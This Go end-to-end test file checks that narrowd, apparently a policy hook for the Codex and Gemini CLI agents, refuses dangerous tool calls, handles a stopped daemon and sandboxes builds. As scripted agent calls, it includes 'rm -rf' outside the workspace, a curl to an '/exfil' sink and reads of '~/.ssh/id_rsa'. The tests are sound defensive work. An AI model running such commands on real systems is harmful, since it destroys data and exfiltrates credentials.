package e2e

// The end-to-end scenarios Codex and Gemini CLI share, written once
// against a driver: how to make the client's world, run it, write its tool
// calls, read its tool results and find narrowd's audit records of them.
// What only one client has (apply_patch, Codex's permission requests,
// Gemini's probes) stays in codex_test.go and gemini_test.go.

import (
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
)

// driver is what the shared scenarios need to know of a client CLI.
type driver struct {
	// name is narrowd's name for the agent; scenario names start with it.
	name string
	// client is the npm package of the CLI.
	client npmClient
	// setup gives a new world the client's model dialect and the user's
	// own settings of the client.
	setup func(w *World)
	// run runs the client headless on one scenario; a run that fails or
	// times out fails the test.
	run func(t *testing.T, w *World, bin string, sc Scenario) Result
	// shell, read and write script a shell command, a read of a project
	// file, and a new project file with its content.
	shell func(cmd string) ToolCall
	read  func(file string) ToolCall
	write func(file, content string) ToolCall
	// blocked starts the result of a call narrowd's hook refused;
	// hookFailed starts the result of a call blocked because the hook
	// could not judge it ("" where the client adds no fixed text).
	blocked, hookFailed string
	// marksErrors: the client flags a refused call's result as an error.
	// A client that does not (Codex) only says "blocked" in its text.
	marksErrors bool
	// settings is the user's own configuration file of the client, and
	// keep a piece of it that narrowd's uninstall must leave.
	settings func(w *World) string
	keep     string
	// wantOutcomes checks narrowd's pre-tool verdicts on the calls of sc,
	// one outcome per call in scenario order (anyRefusal: not allow).
	wantOutcomes func(t *testing.T, w *World, sc Scenario, outcomes ...string)
}

// anyRefusal, as a wanted outcome, is any outcome but allow: ask, deny
// or sandbox, whichever the profile's rule picked.
const anyRefusal = "!allow"

func outcomeIs(got, want string) bool {
	if want == anyRefusal {
		return got != "allow"
	}
	return got == want
}

// bare is a world for the client, without narrowd's hooks, and the
// client's binary.
func (d driver) bare(t *testing.T, opt WorldOptions) (*World, string) {
	t.Helper()
	bin := needClient(t, d.client)
	w := NewWorld(t, opt)
	d.setup(w)
	return w, bin
}

// world is a world with narrowd's hooks installed by `narrowd install`:
// the hook entries must come from narrowd, so the test proves the file
// it writes is one the client reads.
func (d driver) world(t *testing.T, opt WorldOptions) (*World, string) {
	t.Helper()
	w, bin := d.bare(t, opt)
	w.Install(d.name)
	return w, bin
}

// ran reports whether the client ran the call whose result r is.
func (d driver) ran(r ToolResult) bool {
	if d.marksErrors {
		return !r.IsError
	}
	return !strings.Contains(r.Text, "blocked")
}

// refused reports whether r is a refusal whose text starts with prefix.
func (d driver) refused(r ToolResult, prefix string) bool {
	return (!d.marksErrors || r.IsError) && strings.HasPrefix(r.Text, prefix)
}

// blockedByHook reports whether r is a refusal by narrowd's hook, with
// narrowd's verdict or because the hook could not check the call.
func (d driver) blockedByHook(r ToolResult) bool {
	return d.refused(r, d.blocked) ||
		d.refused(r, d.hookFailed) && strings.Contains(r.Text, "narrowd: could not check this call")
}

// results returns the result of each turn's first call in the scenario's
// last request, failing the test when one is missing.
func (d driver) results(t *testing.T, w *World, sc Scenario) []ToolResult {
	t.Helper()
	last := w.Model.Last(sc.Name)
	out := make([]ToolResult, len(sc.Turns))
	for i := range sc.Turns {
		if len(sc.Turns[i].Calls) == 0 {
			continue
		}
		res, ok := last.Result(i, 0)
		if !ok {
			t.Fatalf("no result for turn %d in %s's last request: %+v", i, d.name, last.Decoded.Results)
		}
		out[i] = res
	}
	return out
}

// oneCallPerTurn is a scenario of turns with one call each.
func oneCallPerTurn(name string, calls ...ToolCall) Scenario {
	sc := Scenario{Name: name}
	for _, c := range calls {
		sc.Turns = append(sc.Turns, Turn{Calls: []ToolCall{c}})
	}
	return sc
}

func testHarmlessRead(t *testing.T, d driver) {
	t.Parallel()
	w, bin := d.world(t, WorldOptions{})
	w.Start()
	sc := oneCallPerTurn(d.name+"-read", d.shell("ls"), d.read("README.md"), d.shell("grep -n hello README.md main.go | head -5"))
	d.run(t, w, bin, sc)
	for i, want := range []string{"main.go", "second line", "README.md:1:hello world"} {
		if r := d.results(t, w, sc)[i]; !d.ran(r) || !strings.Contains(r.Text, want) {
			t.Errorf("turn %d result = %+v, want output with %q", i, r, want)
		}
	}
	d.wantOutcomes(t, w, sc, "allow", "allow", "allow")
}

// writeStep is a scripted workspace write beyond the driver's new file:
// the project file it changes, and its content before and after.
type writeStep struct {
	call                ToolCall
	file, before, after string
}

// testWorkspaceWrite: standard's write-workspace-file allows a proven
// workspace write, strict asks about it, and a client that cannot ask
// gets a deny.
func testWorkspaceWrite(t *testing.T, d driver, more ...writeStep) {
	t.Parallel()
	for _, tt := range []struct {
		profile string
		written bool
	}{
		{"standard", true},
		{"strict", false},
	} {
		t.Run(tt.profile, func(t *testing.T) {
			t.Parallel()
			w, bin := d.world(t, WorldOptions{Profile: tt.profile})
			w.Start()
			content := "by " + d.name + "\n"
			steps := append([]writeStep{{d.write("notes.txt", content), "notes.txt", "", content}}, more...)
			sc := Scenario{Name: d.name + "-write"}
			outcome := map[bool]string{true: "allow", false: "ask"}[tt.written]
			var outcomes []string
			for _, s := range steps {
				sc.Turns = append(sc.Turns, Turn{Calls: []ToolCall{s.call}})
				outcomes = append(outcomes, outcome)
			}
			d.run(t, w, bin, sc)
			for i, r := range d.results(t, w, sc) {
				s := steps[i]
				path := filepath.Join(w.Project, s.file)
				switch {
				case tt.written:
					mustExist(t, path, s.after)
					if !d.ran(r) {
						t.Errorf("turn %d result = %+v, want the write to have run", i, r)
					}
				case s.before == "":
					mustNotExist(t, path)
				default:
					mustExist(t, path, s.before)
				}
				if !tt.written && !d.refused(r, d.blocked+": needs approval") {
					t.Errorf("turn %d result = %+v, want narrowd's needs-approval reason", i, r)
				}
			}
			d.wantOutcomes(t, w, sc, outcomes...)
		})
	}
}

// testDangerousNeverRuns: rm -rf outside the workspace, curl to a
// loopback sink and reads of the ssh key never run, and narrowd refuses
// each call its hook sees (more, the client's own). The client's model
// never sees the key or a workspace secret. unhooked are calls the client
// refuses itself, before any hook.
func testDangerousNeverRuns(t *testing.T, d driver, more, unhooked []ToolCall) {
	t.Parallel()
	w, bin := d.world(t, WorldOptions{})
	sink := NewSink(t, "exfiltrated\n")
	w.Model.Vars["SINK"] = sink.URL
	w.WriteFile(filepath.Join(w.Project, "deploy.pem"), "FAKE-E2E-TOKEN-DO-NOT-LEAK\n")
	w.Start()
	calls := append([]ToolCall{
		d.shell("rm -rf {{MARKER}}"),
		d.shell("curl -s {{SINK}}/exfil"),
		d.shell("cat {{HOME}}/.ssh/id_rsa"),
		d.shell("cat ~/.ssh/id_rsa"),
	}, more...)
	sc := oneCallPerTurn(d.name+"-danger", append(slices.Clone(calls), unhooked...)...)
	hooked := Scenario{Name: sc.Name, Turns: sc.Turns[:len(calls)]}
	d.run(t, w, bin, sc)
	mustExist(t, w.MarkerFile, "narrowd e2e marker: must survive\n")
	if hits := sink.Hits(); len(hits) != 0 {
		t.Errorf("the loopback sink got requests %v; nothing may have reached it", hits)
	}
	for i, r := range d.results(t, w, sc) {
		if i < len(hooked.Turns) && !d.refused(r, d.blocked) {
			t.Errorf("turn %d result = %+v, want narrowd's reason", i, r)
		}
		if i >= len(hooked.Turns) && d.ran(r) {
			t.Errorf("turn %d (%s %s): result %+v, want a refusal", i, sc.Turns[i].Calls[0].Name, sc.Turns[i].Calls[0].Input, r)
		}
	}
	refusals := make([]string, len(hooked.Turns))
	for i := range refusals {
		refusals[i] = anyRefusal
	}
	d.wantOutcomes(t, w, hooked, refusals...)
	noLeak(t, w.Model, "FAKE-E2E-KEY-DO-NOT-LEAK")
	noLeak(t, w.Model, "FAKE-E2E-TOKEN-DO-NOT-LEAK")
}

// testAskNeverRuns: a client that cannot ask a person (or would wait for
// one forever) must get an ask as a deny, also when narrowd is told a
// person is there.
func testAskNeverRuns(t *testing.T, d driver) {
	t.Parallel()
	for _, interactive := range []bool{false, true} {
		name := map[bool]string{false: "headless", true: "interactive"}[interactive]
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w, bin := d.world(t, WorldOptions{})
			if interactive {
				w.AppendConfig("interactive = true\n")
			}
			w.Start()
			sc := oneCallPerTurn(d.name+"-ask", d.shell("rm README.md"))
			d.run(t, w, bin, sc)
			mustExist(t, filepath.Join(w.Project, "README.md"), "")
			d.wantOutcomes(t, w, sc, "ask")
			r := d.results(t, w, sc)[0]
			if !d.refused(r, d.blocked) || !strings.Contains(r.Text, "needs approval") || !strings.Contains(r.Text, "narrowd profile") {
				t.Errorf("result = %+v, want narrowd's reason with how to approve", r)
			}
		})
	}
}

// testDaemonStopped: with the daemon gone the hook judges in-process with
// the configured profile; with the daemon hung it gives up and still lets
// nothing through the profile would refuse; with neither a daemon nor a
// config it can read it blocks everything.
func testDaemonStopped(t *testing.T, d driver) {
	t.Parallel()
	readRan := func(t *testing.T, r ToolResult) {
		t.Helper()
		if !d.ran(r) || !strings.Contains(r.Text, "hello world") {
			t.Errorf("read result = %+v, want README.md's text (allowed in-process)", r)
		}
	}
	t.Run("in-process", func(t *testing.T) {
		t.Parallel()
		w, bin := d.world(t, WorldOptions{})
		// The daemon ran once and is gone: the shim must judge in-process.
		w.Start()
		w.Stop()
		sc := oneCallPerTurn(d.name+"-offline", d.read("README.md"), d.shell("rm -rf {{MARKER}}"), d.shell("rm README.md"))
		d.run(t, w, bin, sc)
		res := d.results(t, w, sc)
		readRan(t, res[0])
		for turn := 1; turn <= 2; turn++ {
			if !d.refused(res[turn], d.blocked) {
				t.Errorf("turn %d result = %+v, want narrowd's refusal", turn, res[turn])
			}
		}
		mustExist(t, w.MarkerFile, "")
		mustExist(t, filepath.Join(w.Project, "README.md"), "")
	})
	t.Run("hung", func(t *testing.T) {
		t.Parallel()
		// The daemon is there but answers nothing (stopped with
		// SIGSTOP): the shim gives up after its timeout and must still
		// never let through what the profile would not allow.
		w, bin := d.world(t, WorldOptions{})
		w.Start()
		w.Signal(syscall.SIGSTOP)
		defer w.Signal(syscall.SIGCONT)
		sc := oneCallPerTurn(d.name+"-hung", d.read("README.md"), d.shell("rm -rf {{MARKER}}"))
		d.run(t, w, bin, sc)
		res := d.results(t, w, sc)
		// A read is judged in-process after the timeout (or blocked).
		if r := res[0]; !(d.ran(r) && strings.Contains(r.Text, "hello world")) && !d.blockedByHook(r) {
			t.Errorf("read result = %+v, want README.md's text or narrowd's block", r)
		}
		if r := res[1]; !d.blockedByHook(r) {
			t.Errorf("rm result = %+v, want narrowd's refusal", r)
		}
		mustExist(t, w.MarkerFile, "")
	})
	t.Run("in-process-profile", func(t *testing.T) {
		t.Parallel()
		// In-process judging uses the configured profile, not the
		// default: strict asks about a workspace write standard allows.
		w, bin := d.world(t, WorldOptions{Profile: "strict"})
		sc := oneCallPerTurn(d.name+"-offline-strict", d.read("README.md"), d.write("notes.txt", "x\n"))
		d.run(t, w, bin, sc)
		res := d.results(t, w, sc)
		readRan(t, res[0])
		if !d.refused(res[1], d.blocked) || !strings.Contains(res[1].Text, "needs approval") {
			t.Errorf("write result = %+v, want strict's needs-approval refusal", res[1])
		}
		mustNotExist(t, filepath.Join(w.Project, "notes.txt"))
	})
	t.Run("blocks", func(t *testing.T) {
		t.Parallel()
		w, bin := d.world(t, WorldOptions{})
		// No daemon, and a config the shim cannot read: it cannot judge,
		// so it must block even a harmless read.
		w.AppendConfig("this is not toml\n")
		sc := oneCallPerTurn(d.name+"-broken", d.read("README.md"), d.shell("rm -rf {{MARKER}}"))
		d.run(t, w, bin, sc)
		for turn, r := range d.results(t, w, sc) {
			if !d.refused(r, d.hookFailed) || !strings.Contains(r.Text, "narrowd: could not check this call") {
				t.Errorf("turn %d result = %+v, want narrowd's could-not-check block", turn, r)
			}
			if strings.Contains(r.Text, "hello world") {
				t.Errorf("turn %d ran: %+v", turn, r)
			}
		}
		mustExist(t, w.MarkerFile, "")
	})
}

// taintProfile allows everything except sending data out once text
// written by others entered the session: it isolates seed 003's rule, so
// the same egress call is allowed in a clean session and refused in a
// tainted one.
const taintProfile = `name = "e2e-taint"
description = "Everything runs, except sending data out after third-party content entered the session."

[[rule]]
id = "allow-all"
when = 'true'
then = "allow"
reason = "the e2e taint profile allows everything else"

[[rule]]
id = "no-send-after-read"
when = 'call.external_effect && session.called_with("reads_untrusted")'
then = "deny"
reason = "this call can send data out, and text written by others has entered this session"
`

// testSessionTaint runs the clean and the tainted scenario (of
// taintScenarios' shape, in the client's tools) under taintProfile.
func testSessionTaint(t *testing.T, d driver, clean, tainted Scenario) {
	t.Parallel()
	w, bin := d.world(t, WorldOptions{ProfileTOML: taintProfile})
	w.Start()
	pe := newProbeEnv(t, w)
	d.run(t, w, bin, clean)
	d.run(t, w, bin, tainted)
	checkTaint(t, w, pe, tainted)
}

// testInstallLevels: the hooks `narrowd install` writes at user level and
// into a trusted project both run in the real client, and `narrowd
// uninstall` removes exactly what made the difference: the same call
// narrowd refused runs once the hooks are gone, and the user's own
// settings stay.
func testInstallLevels(t *testing.T, d driver) {
	t.Parallel()
	for _, level := range []string{"user", "project"} {
		t.Run(level, func(t *testing.T) {
			t.Parallel()
			w, bin := d.bare(t, WorldOptions{})
			args := map[string][]string{"project": {"--project", w.Project}}[level]
			w.Install(d.name, args...)
			w.Start()
			scratch := filepath.Join(w.Project, "scratch.txt")
			w.WriteFile(scratch, "delete me\n")
			sc := oneCallPerTurn(d.name+"-install", d.shell("rm scratch.txt"))
			d.run(t, w, bin, sc)
			mustExist(t, scratch, "delete me\n")
			d.wantOutcomes(t, w, sc, "ask")

			w.Narrowd("", append([]string{"uninstall", d.name, "--binary", narrowdBin}, args...)...)
			if !strings.Contains(readFile(d.settings(w)), d.keep) {
				t.Fatalf("uninstall lost the user's own settings (%q in %s)", d.keep, d.settings(w))
			}
			before := len(w.Audit())
			sc2 := Scenario{Name: d.name + "-uninstalled", Turns: sc.Turns}
			d.run(t, w, bin, sc2)
			mustNotExist(t, scratch)
			if after := len(w.Audit()); after != before {
				t.Errorf("audit records went from %d to %d after uninstall; the hook must be gone", before, after)
			}
		})
	}
}

// testParallelCalls: one model turn with several calls, which the client
// may run (and hook) concurrently: each is judged on its own, the reads
// run and the deletion outside the workspace does not.
func testParallelCalls(t *testing.T, d driver) {
	t.Parallel()
	w, bin := d.world(t, WorldOptions{})
	w.Start()
	sc := Scenario{Name: d.name + "-parallel", Turns: []Turn{
		{Calls: []ToolCall{d.read("README.md"), d.shell("rm -rf {{MARKER}}"), d.shell("ls")}},
	}}
	d.run(t, w, bin, sc)
	last := w.Model.Last(sc.Name)
	for i, want := range []string{"second line", d.blocked, "main.go"} {
		if res, ok := last.Result(0, i); !ok || !strings.Contains(res.Text, want) {
			t.Errorf("call %d result = %+v (found %v), want %q", i, res, ok, want)
		}
	}
	mustExist(t, w.MarkerFile, "")
	d.wantOutcomes(t, w, sc, "allow", "deny", "allow")
}

// testSandbox: a build narrowd's profile sends to its sandbox
// (run-repo-code) reaches the real client as a rewrite of the shell
// command to `narrowd exec --ticket`, and runs confined: the workspace
// write lands, a write outside the workspace and a connection to the
// loopback sink fail.
func testSandbox(t *testing.T, d driver) {
	t.Parallel()
	w, bin := d.world(t, WorldOptions{})
	sink := writeSandboxProbe(t, w)
	w.Start()
	sc := oneCallPerTurn(d.name+"-sandbox", d.shell("make"))
	d.run(t, w, bin, sc)
	checkSandboxProbe(t, w, sink, d.results(t, w, sc)[0])
	d.wantOutcomes(t, w, sc, "sandbox")
}

// callsOf lists the calls of a scenario in order.
func callsOf(sc Scenario) []ToolCall {
	var out []ToolCall
	for _, tu := range sc.Turns {
		out = append(out, tu.Calls...)
	}
	return out
}
